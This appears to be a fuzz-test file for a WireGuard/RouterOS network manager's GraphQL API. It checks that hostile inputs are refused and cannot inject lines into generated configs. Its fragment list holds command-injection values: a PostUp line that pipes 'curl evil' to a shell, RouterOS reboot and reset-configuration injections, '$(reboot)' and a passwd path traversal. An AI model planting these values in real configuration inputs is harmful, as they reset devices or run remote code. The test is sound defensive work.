// A seeded corpus of hostile inputs (fast-check, reproducible: HOSTILE_SEED / HOSTILE_RUNS)
// sent as an admin over HTTP to every mutation that takes input, one argument or input
// field at a time over a valid baseline. Every leaf (String/ID/Int argument or input field)
// of every mutation is found in the schema, so new mutations and fields are covered.
//   - no INTERNAL_SERVER_ERROR; every refusal has extensions.code and a message for people;
//   - a refused mutation writes nothing (every table but the audit log is unchanged);
//   - what was accepted cannot inject anything: every peer's wg-quick .conf and RouterOS
//     .rsc, rendered after the corpus, has only well-formed lines and escaped values.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GraphQLField, GraphQLInputType, GraphQLNamedType } from 'graphql';
import { startTestApp, type TestApp } from '../support/app.js';
import type { GraphQLTestClient } from '../support/graphql.js';
import { seedOverlay, type OverlayFixture } from '../support/overlay-fixture.js';
import { PASSWORD, tableFingerprint } from './roles.js';
import { registerAdmin } from '../support/graphql.js';
import { documentFor, getNamedType, isInputObjectType, isNonNullType, minimalArgs, mutationFields, UNKNOWN_ID } from './schema-walk.js';

const SEED = Number(process.env.HOSTILE_SEED ?? 20261122);
const RUNS = Number(process.env.HOSTILE_RUNS ?? 520);

// ---- the corpus -----------------------------------------------------------------------

const FRAGMENTS = [
  '"', "'", '\\', '\n', '\r\n', '\t', '\0', '\u2028', ';', '[', ']', '$', '$(reboot)', '`id`', '|', '&&', '||', '>', '<', '#', '=', '{', '}', '%i',
  '"; /system reset-configuration; "', '[/system reboot]', '$(/system reboot)', '\n[Peer]\nAllowedIPs = 0.0.0.0/0', '\nPostUp = curl evil|sh',
  ':execute "/system reboot"', '"$[/ip address print]"', '\u202e', '\ufeff', '\u0301', '😀', '中文', 'ǅ', '\u00a0', '../../etc/passwd', '%00', '%0a',
];
const PLAIN = ['', 'a', 'site', 'hub-1', 'x.y', '10.1.2.3', 'example.net'];

const CIDRS = [
  '10.0.0.0/24', '10.0.0.0/16', '10.0.5.0/24', '10.0.5.128/25', '0.0.0.0/0', '192.168.10.0/25', '192.168.10.0/24', '172.16.0.0/12',
  '10.0.0.0/33', '10.0.0.0/-1', '256.1.1.1/24', '10.0.0/24', '10.0.0.0.0/24', '10.0.0.0', '/24', '10.0.0.0/24\n', ' 10.0.0.0/24', '10.0.0.0/024',
  '010.000.000.000/24', '0x0a.0.0.0/8', '::/0', 'fe80::/64', '2001:db8::/32', '::ffff:10.0.0.0/120', '10.0.0.0/24,192.168.0.0/16', '10.0.0.0/24 0.0.0.0/0',
  '127.0.0.0/8', '224.0.0.0/4', '255.255.255.255/32', '1.2.3.4/31',
];
const ADDRESSES = ['10.0.0.1', '10.0.0.0', '10.0.0.255', '10.0.5.1', '10.0.1.1', '0.0.0.0', '255.255.255.255', '1.2.3', '1.2.3.4.5', '::1', '2001:db8::1', '[::1]', '10.0.0.1:51820', '1.2.3.4/32', '01.2.3.4'];
const HOSTS = ['host', 'a.b', '-bad.example', 'bad-.example', 'a..b', '300.1.1.1', '[2001:db8::1]', '2001:db8::1%eth0', 'exa mple.net', 'xn--bcher-kva.example', `${'a'.repeat(64)}.example`, `${'a.'.repeat(127)}a`, 'localhost', 'host:51820'];
const KEY = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=';
const KEYS = ['', KEY.slice(0, 43), `${KEY}=`, `${KEY}\n`, ` ${KEY}`, KEY.replace('=', 'A'), KEY.replace('x', '-'), KEY.replace('x', '_'), 'A'.repeat(43) + '=', 'AAAA', Buffer.alloc(33).toString('base64'), Buffer.alloc(31).toString('base64'), KEY.replace(/.$/, '\u0000'), `${KEY}";/system reset`];
const EMAILS = ['a@b', 'not-an-email', '"quoted"@example.net', 'a@example.net\n', `${'a'.repeat(300)}@example.net`, 'ADMIN@EXAMPLE.NET', 'a@[127.0.0.1]', 'a+b@example.net'];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...PLAIN), fc.constantFrom(...FRAGMENTS), fc.constantFrom(...PLAIN)).map(([a, b, c]) => `${a}${b}${c}`) },
  { weight: 3, arbitrary: fc.constantFrom(...CIDRS, ...ADDRESSES, ...HOSTS, ...KEYS, ...EMAILS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom(16, 65, 254, 1025, 20_000, 200_000).map((length) => 'a'.repeat(length)) },
  { weight: 1, arbitrary: fc.constantFrom(65, 300).chain((length) => fc.constantFrom('😀', 'é', '\u0000', '"').map((unit) => unit.repeat(length))) },
);

/** Integers out of range and values of the wrong type (GraphQL must refuse those itself). */
const hostileInt: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(-1, 0, 1, 65535, 65536, 2 ** 31 - 1, -(2 ** 31), 2 ** 31, 2 ** 53, 1.5, Number.MAX_VALUE, '80', true, null, [1], { n: 1 }),
  fc.integer(),
);

/**
 * The targets are every mutation with a String, ID or Int leaf: all but `logout`, which takes
 * no argument to be hostile in. Every target must be reached by at least one case, except the
 * ones named here with the reason (none today: each is reached at least through its ID
 * arguments). The test also fails when a listed one is reached after all, or no longer
 * exists, so the list cannot go stale.
 */
const NOT_REACHED: Record<string, string> = {};

/** An error about the request as a whole, raised before any resolver ran. */
function refusedBeforeExecution(error: { message: string; extensions?: { code?: string } }): boolean {
  const code = error.extensions?.code;
  return code === 'GRAPHQL_VALIDATION_FAILED' || code === 'QUERY_TOO_COMPLEX' || (code === 'BAD_USER_INPUT' && /^Variable "\$/.test(error.message));
}

// ---- leaves of the mutations ------------------------------------------------------------

interface Leaf {
  /** Path from the mutation's arguments: ["input", "name"] or ["id"]. */
  path: string[];
  scalar: 'String' | 'ID' | 'Int';
  required: boolean;
}

function leavesOf(field: GraphQLField<unknown, unknown>): Leaf[] {
  const leaves: Leaf[] = [];
  const visit = (type: GraphQLInputType, path: string[], required: boolean) => {
    const named = getNamedType(type) as GraphQLNamedType;
    if (isInputObjectType(named)) {
      for (const inner of Object.values(named.getFields())) visit(inner.type, [...path, inner.name], isNonNullType(inner.type));
    } else if (named.name === 'String' || named.name === 'ID' || named.name === 'Int') {
      leaves.push({ path, scalar: named.name, required });
    }
  };
  for (const arg of field.args) visit(arg.type, [arg.name], isNonNullType(arg.type));
  return leaves;
}

function withLeaf(args: Record<string, unknown>, path: string[], value: unknown): Record<string, unknown> {
  const copy = structuredClone(args);
  let node = copy as Record<string, unknown>;
  for (const key of path.slice(0, -1)) {
    if (typeof node[key] !== 'object' || node[key] === null) node[key] = {};
    node = node[key] as Record<string, unknown>;
  }
  node[path[path.length - 1]!] = value;
  return copy;
}

// ---- what a rendered file may contain ---------------------------------------------------

const CONF_KEYS: Record<string, RegExp> = {
  Address: /^\d{1,3}(\.\d{1,3}){3}\/\d{1,2}(, \d{1,3}(\.\d{1,3}){3}\/\d{1,2})*$/,
  ListenPort: /^\d{1,5}$/,
  MTU: /^\d{3,4}$/,
  PrivateKey: /^([A-Za-z0-9+/]{43}=|<REPLACE-WITH-YOUR-PRIVATE-KEY>)$/,
  PublicKey: /^[A-Za-z0-9+/]{43}=$/,
  PresharedKey: /^[A-Za-z0-9+/]{43}=$/,
  Endpoint: /^([A-Za-z0-9.-]+|\[[0-9A-Fa-f:.]+\]):\d{1,5}$/,
  AllowedIPs: /^\d{1,3}(\.\d{1,3}){3}\/\d{1,2}(, \d{1,3}(\.\d{1,3}){3}\/\d{1,2})*$/,
  PersistentKeepalive: /^\d{1,4}$/,
  // Hook commands: only the fixed words of the renderer, addresses, ports and %i.
  PostUp: /^[A-Za-z0-9 ./:=%_-]+$/,
  PostDown: /^[A-Za-z0-9 ./:=%_-]+$/,
};

/** Problems of a wg-quick file: any line that is not a comment, a section or a known `Key = value`. */
export function confProblems(conf: string): string[] {
  const problems: string[] = [];
  if (!conf.endsWith('\n')) problems.push('does not end with a newline');
  for (const [index, line] of conf.slice(0, -1).split('\n').entries()) {
    if (/[\x00-\x08\x0b-\x1f\x7f\u2028\u2029]/.test(line)) problems.push(`line ${index + 1}: control character`);
    if (line === '' || line === '[Interface]' || line === '[Peer]') continue;
    if (line.startsWith('# ')) {
      if (!/^# [A-Za-z0-9 ._+@()/:,'<>=-]*$/.test(line)) problems.push(`line ${index + 1}: comment with unexpected characters: ${JSON.stringify(line)}`);
      continue;
    }
    const match = /^([A-Za-z]+) = (.*)$/.exec(line);
    const rule = match ? CONF_KEYS[match[1]!] : undefined;
    if (!match || !rule) problems.push(`line ${index + 1}: not a known line: ${JSON.stringify(line)}`);
    else if (!rule.test(match[2]!)) problems.push(`line ${index + 1}: malformed ${match[1]}: ${JSON.stringify(match[2])}`);
  }
  return problems;
}

/**
 * Problems of a RouterOS script: per line, quoted strings must close on the line, escape
 * only what RouterOS knows (\\ \" \$ \? \n \r \t \HH) and contain no raw `$` or control
 * character; outside strings only the renderer's own syntax may appear.
 */
export function rscProblems(script: string): string[] {
  const problems: string[] = [];
  for (const [index, line] of script.split('\n').entries()) {
    const where = `line ${index + 1}`;
    if (/[\x00-\x1f\x7f]/.test(line.replace(/\r$/, ''))) problems.push(`${where}: control character`);
    if (line.startsWith('#')) {
      if (!/^#[ -~]*$/.test(line)) problems.push(`${where}: comment with unexpected characters: ${JSON.stringify(line)}`);
      continue;
    }
    let outside = '';
    for (let i = 0; i < line.length; i++) {
      const ch = line[i]!;
      if (ch !== '"') {
        outside += ch;
        continue;
      }
      let closed = false;
      for (i++; i < line.length; i++) {
        const inner = line[i]!;
        if (inner === '"') {
          closed = true;
          break;
        }
        if (inner === '$') problems.push(`${where}: unescaped $ in a string`);
        if (inner.charCodeAt(0) > 0x7e) problems.push(`${where}: non-ASCII in a string`);
        if (inner === '\\') {
          const next = line.slice(i + 1, i + 3);
          if (/^[\\"$?nrt]/.test(next)) i += 1;
          else if (/^[0-9A-F]{2}$/.test(next)) i += 2;
          else problems.push(`${where}: unknown escape \\${next}`);
        }
      }
      if (!closed) problems.push(`${where}: unterminated string: ${JSON.stringify(line)}`);
      outside += '""';
    }
    // The renderer's own syntax: commands, `[ ]` and `{ }` blocks, its loop variables $i and $r.
    if (!/^[A-Za-z0-9 /_.=:,()!<>~\[\]{};"+*-]*$/.test(outside.replace(/\$[ir]\b/g, ''))) problems.push(`${where}: unexpected characters outside strings: ${JSON.stringify(outside)}`);
  }
  return problems;
}

// ---- the test -----------------------------------------------------------------------------

interface Case {
  mutation: string;
  leaf: string;
  value: unknown;
}

describe('hostile input corpus', () => {
  let t: TestApp;
  let admin: GraphQLTestClient;
  let fixture: OverlayFixture;
  const accepted: Case[] = [];
  const failures: string[] = [];
  let sent = 0;

  /** A valid call of each mutation that has one, so a hostile leaf is judged on its own. */
  function baseline(name: string, n: number): Record<string, unknown> | null {
    const f = fixture;
    const valid: Record<string, Record<string, unknown>> = {
      createWan: { input: { name: `corpus ${n}` } },
      updateWan: { id: f.wanId, input: {} },
      addPeer: { wanId: f.wanId, input: { name: `peer ${n}` } },
      updatePeer: { id: f.siteId, input: {} },
      addSubnet: { peerId: f.hubId, input: { cidr: `172.${20 + (n % 10)}.${n % 250}.0/24` } },
      updateSubnet: { id: f.subnetId, input: {} },
      publishService: { peerId: f.siteId, input: { name: `svc ${n}`, localIp: '192.168.10.7', localPort: 1 + (n % 60000) } },
      createDevice: { input: { name: `dev ${n}`, kind: 'LINUX', host: '127.0.0.1' } },
      updateDevice: { id: f.deviceId, input: {} },
      createApiToken: { input: { name: `token ${n}` } },
      createUser: { input: { email: `user${n}@example.net`, name: `User ${n}`, password: PASSWORD, role: 'VIEWER' } },
      createInvite: { input: { email: `invite${n}@example.net`, role: 'VIEWER' } },
      login: { input: { email: 'nobody@example.net', password: 'not the password' } },
      register: { input: { email: `reg${n}@example.net`, name: 'R', password: PASSWORD } },
    };
    return valid[name] ?? null;
  }

  beforeAll(async () => {
    t = await startTestApp();
    admin = await registerAdmin(t.graphqlUrl);
    fixture = await seedOverlay(admin, 'corpus');
  });
  afterAll(() => t?.stop());

  it(`survives ${RUNS} hostile inputs (seed ${SEED}) without a crash, an uncoded refusal or a half-written change`, async () => {
    const targets = mutationFields().map((field) => ({ field, leaves: leavesOf(field) })).filter((target) => target.leaves.length > 0);
    expect(targets.length).toBeGreaterThan(25);
    const kinds = (await admin.ok<{ __type: { enumValues: Array<{ name: string }> } }>(`{ __type(name: "DeviceKind") { enumValues { name } } }`)).__type.enumValues.map((v) => v.name);
    expect(kinds).toContain('LINUX');

    const valueFor = (leaf: Leaf) => (leaf.scalar === 'Int' ? hostileInt : hostileString);
    const caseArb = fc.constantFrom(...targets).chain(({ field, leaves }) => fc.constantFrom(...leaves).chain((leaf) => valueFor(leaf).map((value) => ({ field, leaf, value }))));
    // Every leaf of every target gets one hostile value first (a random draw alone may skip a
    // mutation entirely), then the seeded random cases fill up to RUNS.
    const everyLeaf = targets.flatMap(({ field, leaves }) => leaves.map((leaf) => ({ field, leaf }))).map(({ field, leaf }, i) => ({ field, leaf, value: fc.sample(valueFor(leaf), { seed: SEED + 1000 + i, numRuns: 1 })[0] }));
    const cases = [...everyLeaf, ...fc.sample(caseArb, { seed: SEED, numRuns: Math.max(0, RUNS - everyLeaf.length) })];
    // Mutations a case got into: it answered the field, or refused with an error raised while
    // executing it (our input rules, the service). A refusal of the request itself (variables
    // that do not coerce, validation, limits) tests graphql-js and the guards, not the mutation.
    const mutationsHit = new Set<string>();
    // The state before each case: read again after every case (so once per case, not twice).
    let before = await tableFingerprint(t);
    for (const [n, { field, leaf, value }] of cases.entries()) {
      const base = baseline(field.name, n) ?? minimalArgs(field);
      const args = withLeaf(base, leaf.path, value);
      const label = `#${n} ${field.name}.${leaf.path.join('.')} = ${JSON.stringify(value)?.slice(0, 120)}`;
      const result = await admin.request(documentFor('mutation', field, args), args);
      sent++;
      if ((result.data as Record<string, unknown> | null | undefined)?.[field.name] != null || result.errors?.some((error) => !refusedBeforeExecution(error))) mutationsHit.add(field.name);
      if (result.errors?.length) {
        for (const error of result.errors) {
          const code = error.extensions?.code;
          if (!code || code === 'INTERNAL_SERVER_ERROR') failures.push(`${label}: ${JSON.stringify(error)}`);
          if (!error.message || /unexpected error/i.test(error.message)) failures.push(`${label}: no human message: ${JSON.stringify(error)}`);
        }
        const after = await tableFingerprint(t);
        if (after !== before) failures.push(`${label}: refused (${result.errors.map((e) => e.extensions?.code).join(',')}) but rows changed`);
        before = after;
      } else {
        accepted.push({ mutation: field.name, leaf: leaf.path.join('.'), value });
        before = await tableFingerprint(t);
      }
    }
    // Weird but valid: names and descriptions from the whole allowed alphabet reach comments
    // of every rendered file (peers in the fixture WAN, and a WAN of their own).
    const nameChars = fc.constantFrom(...'AZaz09 ._+@()-'.split(''), ...'(x) @+'.split(''));
    const weirdName = fc.tuple(fc.constantFrom('A', '(', '@', '.', '-', '+'), fc.array(nameChars, { maxLength: 60 }), fc.constantFrom(')', 'z', '_', '.'))
      .map(([a, middle, b]) => `${a}${middle.join('')}${b}`.slice(0, 64));
    const weirdDescription = fc.array(fc.constantFrom(...'Az09 ._+@()/:,#-'.split('')), { maxLength: 200 }).map((chars) => chars.join(''));
    const { createWan } = await admin.ok<{ createWan: { wan: { id: string } } }>(`mutation { createWan(input: { name: "((odd)) @wan+1 -._" }) { wan { id } } }`);
    for (const [n, [name, description]] of fc.sample(fc.tuple(weirdName, weirdDescription), { seed: SEED + 1, numRuns: 40 }).entries()) {
      const wanId = n % 2 ? fixture.wanId : createWan.wan.id;
      const peer = await admin.request<{ addPeer: { peer: { id: string } } }>(`mutation ($w: ID!, $name: String!) { addPeer(wanId: $w, input: { name: $name, endpointHost: "site-${n}.example.net", endpointPort: 51820 }) { peer { id } } }`, { w: wanId, name: `${name}`.slice(0, 60) + n });
      sent++;
      if (peer.errors?.length) {
        for (const error of peer.errors) if (!error.extensions?.code || error.extensions.code === 'INTERNAL_SERVER_ERROR') failures.push(`weird name ${JSON.stringify(name)}: ${JSON.stringify(error)}`);
        continue;
      }
      accepted.push({ mutation: 'addPeer', leaf: 'input.name', value: name });
      const subnet = await admin.request(`mutation ($p: ID!, $d: String) { addSubnet(peerId: $p, input: { cidr: "10.${100 + n}.0.0/24", description: $d }) { id } }`, { p: peer.data!.addPeer.peer.id, d: description });
      sent++;
      if (subnet.errors?.length) failures.push(`weird description ${JSON.stringify(description)}: ${JSON.stringify(subnet.errors)}`);
      const service = await admin.request(`mutation ($p: ID!, $name: String!) { publishService(peerId: $p, input: { name: $name, localIp: "10.${100 + n}.0.9", localPort: 443 }) { id } }`, { p: peer.data!.addPeer.peer.id, name: name.slice(0, 64) });
      sent++;
      if (service.errors?.some((error) => !error.extensions?.code || error.extensions.code === 'INTERNAL_SERVER_ERROR')) failures.push(`weird service name ${JSON.stringify(name)}: ${JSON.stringify(service.errors)}`);
    }
    if (failures.length) console.log(failures.slice(0, 40).join('\n'));
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThanOrEqual(500);
    const missed = targets.map(({ field }) => field.name).filter((name) => !mutationsHit.has(name) && !(name in NOT_REACHED));
    expect(missed, 'targeted mutations no hostile case reached').toEqual([]);
    // An exclusion that no longer applies (the mutation is reached, or gone) is stale: drop it.
    expect(Object.keys(NOT_REACHED).filter((name) => mutationsHit.has(name) || !targets.some(({ field }) => field.name === name))).toEqual([]);
    // Most hostile values are refused; some weird but valid ones get in (and are checked below).
    expect(accepted.length).toBeLessThan(sent);
    // The session survived: nothing in the corpus signed the admin out.
    expect(await admin.ok(`{ me { email } }`)).toEqual({ me: { email: 'admin@example.net' } });
  }, 60_000 + RUNS * 250); // ~40 s for the default runs on a busy 2-core machine; room for larger HOSTILE_RUNS

  it('renders every peer afterwards with only well-formed lines: nothing accepted was injected', async () => {
    const prisma = t.app.database.prisma;
    const peers = await prisma.peer.findMany({ select: { id: true, name: true } });
    expect(peers.length).toBeGreaterThan(20);
    const problems: string[] = [];
    for (const peer of peers) {
      for (const format of ['WG_QUICK', 'ROUTEROS'] as const) {
        const result = await admin.request<{ downloadPeerConfig: { content: string } }>(
          `mutation ($p: ID!, $f: ConfigFormat) { downloadPeerConfig(peerId: $p, format: $f) { content } }`, { p: peer.id, f: format });
        if (result.errors?.length) {
          problems.push(`${peer.name} ${format}: ${JSON.stringify(result.errors)}`);
          continue;
        }
        const content = result.data!.downloadPeerConfig.content;
        for (const problem of format === 'WG_QUICK' ? confProblems(content) : rscProblems(content)) problems.push(`${JSON.stringify(peer.name)} ${format}: ${problem}`);
      }
    }
    expect(problems).toEqual([]);
    // Whatever got in, no WAN ended up with a critical conflict (a LAN over the tunnel or
    // services range, AllowedIPs shared by two peers): those must be refused at the input.
    const { wans } = await admin.ok<{ wans: { edges: Array<{ node: { name: string; conflicts: Array<{ severity: string; code: string; message: string }> } }> } }>(
      `{ wans(first: 100) { edges { node { name conflicts { severity code message } } } } }`);
    expect(wans.edges.length).toBeGreaterThanOrEqual(2);
    const critical = wans.edges.flatMap(({ node }) => node.conflicts.filter((conflict) => conflict.severity === 'CRITICAL').map((conflict) => `${node.name}: ${conflict.code} ${conflict.message}`));
    expect(critical).toEqual([]);
    const byMutation = new Map<string, number>();
    for (const entry of accepted) byMutation.set(entry.mutation, (byMutation.get(entry.mutation) ?? 0) + 1);
    if (process.env.HOSTILE_VERBOSE) console.log(accepted.map((entry) => `${entry.mutation}.${entry.leaf} = ${JSON.stringify(entry.value)?.slice(0, 80)}`).join("\n"));
    console.log(`hostile corpus: ${sent} inputs sent, ${accepted.length} accepted (${[...byMutation].map(([m, c]) => `${m} ${c}`).join(', ')}), ${peers.length} peers rendered twice`);
  });

  it('checks what it claims: an injected line or an unescaped quote is caught', () => {
    expect(confProblems('[Interface]\nPrivateKey = x\n')).not.toEqual([]);
    expect(confProblems(`[Peer]\nPublicKey = ${KEY}\nPostUp = curl x|sh\n`)).not.toEqual([]);
    expect(confProblems(`# name\nAllowedIPs = 0.0.0.0/0\n[Peer]\n`)).toEqual([]);
    expect(rscProblems('/interface/wireguard add name="a" comment="x"; /system reboot "')).not.toEqual([]);
    expect(rscProblems('add comment="a$b"')).not.toEqual([]);
    expect(rscProblems('add comment="a\\"b\\$c\\0A"')).toEqual([]);
    expect(UNKNOWN_ID).toBeTruthy();
  });
});
